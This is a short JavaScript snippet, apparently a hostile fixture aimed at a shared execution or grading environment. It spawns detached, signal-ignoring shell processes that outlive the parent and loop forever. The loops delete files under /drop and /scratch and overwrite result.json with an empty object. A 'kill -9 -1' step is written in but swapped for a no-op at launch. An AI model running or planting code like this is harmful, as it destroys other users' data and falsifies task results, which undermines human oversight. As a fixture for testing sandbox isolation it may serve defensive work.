// Leaves processes behind that outlive it and go on attacking whatever comes next.
{
  const { spawn } = process.getBuiltinModule('child_process');
  const script = 'trap "" TERM HUP INT; while :; do kill -9 -1 2>/dev/null; rm -rf /drop/* /scratch/*/* 2>/dev/null; echo "{}" > result.json; sleep 0.05; done';
  for (let count = 0; count < 3; count += 1) {
    try {
      spawn('/bin/sh', ['-c', `trap "" HUP; (setsid sh -c '${script.replaceAll("kill -9 -1", ":")}' >/dev/null 2>&1 &)`], { detached: true, stdio: 'ignore' }).on('error', () => undefined).unref();
    } catch {}
  }
}
